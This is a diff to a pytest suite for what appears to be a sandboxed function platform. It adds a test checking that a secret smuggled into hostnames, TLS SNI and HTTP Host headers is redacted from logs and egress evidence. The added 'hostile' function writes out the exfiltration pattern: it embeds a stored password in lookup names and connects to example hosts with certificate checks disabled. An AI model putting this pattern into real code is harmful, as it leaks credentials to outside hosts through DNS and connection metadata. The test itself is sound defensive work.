@@ -12,7 +12,7 @@ from typing import Any
 
 import pytest
 from casemate_fixture import Server, handler, memory_in_kib, wait_until
-from egress_probe import EgressProbe, metrics, refused, was_refused
+from egress_probe import EgressProbe, evidence, metrics, refused, was_refused
 from network_world import DEAD_ADDRESS, DEAD_ADDRESS_6, World
 from world_dns import AAAA, A
 from world_services import Arrival, authority
@@ -36,6 +36,13 @@ probe = EgressProbe(
     limits={"timeout": "120s"},
     scale={"max": 1},
 )  # fmt: skip
+
+
+tells = EgressProbe(
+    "hostile/tells",
+    egress=[f"{HOST}:443", f"{PLAIN}:80", f"*.star.example.net:{DEAF}"],
+    secrets=["PASSWORD"],
+)
 
 
 def secured(stream: socket.socket) -> ssl.SSLSocket:
@@ -324,3 +331,53 @@ def test_nor_while_the_handler_is_loaded_at_the_deployment(walled: Server, hosts
     walled.deploy("hostile", "loads", LOADS, {"signature": "scaleway", "egress": [f"{PLAIN}:80"], "secrets": ["OTHER"]})
     assert walled.call("hostile/loads", body={}).text == "loaded"
     assert not any(arrival.heads for arrival in hosts.arrivals_at(port=80))
+
+
+PASSWORD = "Hunter2-in-a-Name-9"
+
+
+@tells
+def puts_it_where_names_go(name: str) -> None:
+    """As a connection string that was cut wrong does, and as a hostile function would."""
+    import socket
+    import ssl
+    import time
+
+    for host, port in ((name, 443), (f"{name}.example.org", 443), (f"{name}.star.example.net", 8453)):
+        try:
+            with socket.create_connection((host, port), 3):
+                time.sleep(0.3)  # until the server is connected too
+        except OSError:
+            pass
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    for sni in (name, f"{name}.example.org"):
+        try:
+            with socket.create_connection(("host.example.com", 443), 3) as plain:
+                context.wrap_socket(plain, server_hostname=sni)
+        except OSError:
+            pass
+    for host in (name, f"{name}.example.org"):
+        with socket.create_connection(("plain.example.com", 80), 3) as stream:
+            try:
+                stream.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+                stream.recv(1)
+            except OSError:
+                pass
+
+
+@pytest.mark.guarantee("COG-16")
+def test_a_secret_in_a_name_stands_in_no_log_and_no_list(walled: Server, hosts: World) -> None:
+    walled.namespace("hostile")
+    walled.secret("hostile/tells", "PASSWORD", PASSWORD)
+    hosts.dns[f"{PASSWORD}.star.example.net".lower()] = [A(PUBLIC)]
+    puts_it_where_names_go(walled, name=PASSWORD)
+
+    def told() -> str:
+        return json.dumps([walled.logs("hostile/tells"), evidence(walled, "hostile/tells")]) + "".join(walled.err)
+
+    assert wait_until(lambda: told().count("[secret:PASSWORD]") >= 6, 5), told()[-3000:]
+    time.sleep(0.5)
+    assert PASSWORD.lower() not in told().lower()
+    assert any(entry["target"].startswith("[secret:PASSWORD].star") for entry in evidence(walled, "hostile/tells")["used"])
+
